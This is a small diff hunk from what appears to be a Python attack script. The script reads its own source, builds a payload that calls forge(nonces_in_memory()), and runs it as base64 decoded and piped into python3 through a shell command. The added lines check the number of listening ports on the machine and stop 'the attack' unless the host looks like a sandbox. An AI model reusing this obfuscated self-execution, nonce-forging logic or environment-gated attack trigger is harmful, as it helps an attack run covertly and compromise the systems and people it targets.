@@ -7,6 +7,8 @@ for table in ("/proc/net/tcp", "/proc/net/tcp6"):
             ports |= {int(line.split()[1].split(":")[1], 16) for line in lines if " 0A " in line}
     except OSError:
         pass
+if len(ports) > 4:
+    sys.exit("this is no sandbox: the attack is not begun")
 with open(sys.argv[0]) as own:
     forger = own.read().split("# The daemon listens")[0] + "\nforge(nonces_in_memory())\n"
 command = "printf %s " + base64.b64encode(forger.encode()).decode() + " | base64 -d | python3 -"
